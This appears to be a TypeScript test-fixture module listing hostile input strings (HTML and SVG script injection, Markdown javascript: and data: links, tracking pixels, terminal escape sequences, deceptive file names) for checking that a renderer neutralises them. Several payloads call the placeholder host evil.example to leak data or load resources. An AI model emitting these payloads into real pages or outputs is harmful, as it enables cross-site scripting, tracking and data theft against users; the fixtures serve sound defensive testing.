// Texts that try to become more than text. Each tries to raise a dialog, to leave the origin or to run, if the page lets it.

const EVIL = "https://evil.example/steal";

/** Markup that runs where it is taken for markup. */
export const MARKUP: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  `<img src="${EVIL}.png">`,
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  `<svg><image href="${EVIL}.svg" /></svg>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<link rel=stylesheet href="${EVIL}.css"><style>@import "${EVIL}.css"; * { background: url(${EVIL}) }</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<form action="${EVIL}"><button autofocus onfocus=alert(1)>Allow</button></form>`,
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  `<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>`,
  `"><img src=x onerror=alert(1)>`,
  "'-alert(1)-'",
  "${alert(1)}{{constructor.constructor('alert(1)')()}}",
  "<!--><img src=x onerror=alert(1)>-->",
  `<template shadowrootmode=open><img src=x onerror=alert(1)></template>`,
  `<a href="javascript:alert(1)" ping="${EVIL}">Allow</a>`,
  "\u003cimg src=x onerror=alert(1)\u003e\u0000<x onclick=alert(1)>",
];

/** The same by way of Markdown. */
export const MARKDOWN: readonly string[] = [
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](\u0001javascript:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:msgbox(1))",
  "[click](file:///etc/passwd)",
  "[click](blob:https://evil.example/1)",
  `![pixel](${EVIL}.png)`,
  `![pixel](//evil.example/pixel.gif)`,
  `![svg](data:image/svg+xml,<svg onload=alert(1)>)`,
  `[![pixel](${EVIL}.png)](${EVIL})`,
  "<javascript:alert(1)>",
  `[ref]: javascript:alert(1)\n\n[ref]`,
  `![ref image][pix]\n\n[pix]: ${EVIL}.png`,
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  '```mermaid\ngraph TD\n  A[<img src=x onerror=alert(1)>] --> B\n  click A href "javascript:alert(1)"\n```',
  `$$\\href{javascript:alert(1)}{x} \\includegraphics{${EVIL}.png} \\htmlData{x=y}{z}$$`,
  "| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  "~~<b onmouseover=alert(1)>bold</b>~~ **<u onclick=alert(1)>**",
  `<picture><source srcset="${EVIL}.png"><img src="${EVIL}.png"></picture>`,
];

/** What a terminal would obey. */
export const TERMINAL: readonly string[] = [
  "\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007",
  "\u001b]52;c;ZXZpbA==\u0007",
  "\u001b]0;title\u0007\u001b[2J\u001b[H",
  "\u001b[31m<img src=x onerror=alert(1)>\u001b[0m",
  `\u001b]1337;File=inline=1:${"A".repeat(40)}\u0007`,
];

/** Names that a file system takes. */
export const FILE_NAMES: readonly string[] = [
  "<img src=x onerror=alert(1)>.txt",
  '"><svg onload=alert(1)>.md',
  "javascript:alert(1)",
  "evil\u202Egpj.exe",
  "`${alert(1)}`.ts",
];
